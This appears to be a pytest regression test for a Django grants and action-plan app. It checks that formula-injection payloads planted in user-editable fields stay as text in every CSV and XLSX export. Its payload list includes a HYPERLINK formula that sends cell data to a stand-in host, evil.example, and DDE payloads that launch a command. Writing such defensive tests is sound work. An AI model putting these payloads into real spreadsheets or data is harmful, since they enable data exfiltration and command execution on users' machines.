"""Formula payloads planted in every NGO-editable text (and staff-typed ones) stay text in every export."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from actionplan import services as plan_services
from actionplan.models import Indicator, Status
from grants.models import Funder
from membership.kernel.spreadsheets import FORMULA_STARTS
from membership.models import Role
from tests.factories import OrganisationFactory, user_with_role
from tests.grants.factories import GrantFactory, GrantRoundFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Avaa")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


def _plant(staff):
    plan = plan_services.current_plan()
    period = plan_services.ensure_period(plan, "2026-Q2")
    indicators = list(Indicator.objects.filter(measure__goal__plan=plan)[: len(PAYLOADS)])
    for n, payload in enumerate(PAYLOADS):
        # What an NGO types: its names; what staff copy from NGOs' papers: activity, funder, evidence.
        organisation = OrganisationFactory(name_fi=payload, name_sv=payload)
        GrantFactory(
            organisation=organisation,
            activity=f"{payload} {n}",
            funder=Funder.OTHER,
            funder_name=payload,
            grant_round=GrantRoundFactory(name=payload),
        )
        plan_services.record_reading(
            indicators[n], period, "1", acting_user=staff, evidence=payload, evidence_url=""
        )
        plan_services.set_measure_status(
            indicators[n].measure,
            period,
            Status.AT_RISK,
            acting_user=staff,
            assessment=payload,
            override_reason=payload,
        )
    return period


def _exports(period):
    return [
        reverse("grants:grant_export", args=["csv"]),
        reverse("grants:grant_export", args=["xlsx"]),
        reverse("actionplan:period_export", args=[period.code, "csv"]),
        reverse("actionplan:period_export", args=[period.code, "xlsx"]),
    ]


def _cells(url: str, content: bytes):
    if url.endswith("csv"):
        for row in csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"):
            yield from ((value, "s") for value in row)
    else:
        sheet = load_workbook(io.BytesIO(content)).active
        for row in sheet.iter_rows():
            yield from ((cell.value, cell.data_type) for cell in row)


def test_every_export_keeps_every_payload_as_text(client):
    staff = user_with_role(Role.STAFF)
    period = _plant(staff)
    client.force_login(staff)
    found = 0
    for url in _exports(period):
        response = client.get(url)
        assert response.status_code == 200, url
        for value, data_type in _cells(url, response.content):
            assert data_type != "f", (url, value)
            if isinstance(value, str):
                assert not value.startswith(FORMULA_STARTS), (url, value)
                found += any(payload.strip() in value for payload in PAYLOADS)
    # Every planted payload came out, as text: names, activities, funders, rounds, evidence.
    assert found >= len(PAYLOADS) * 4
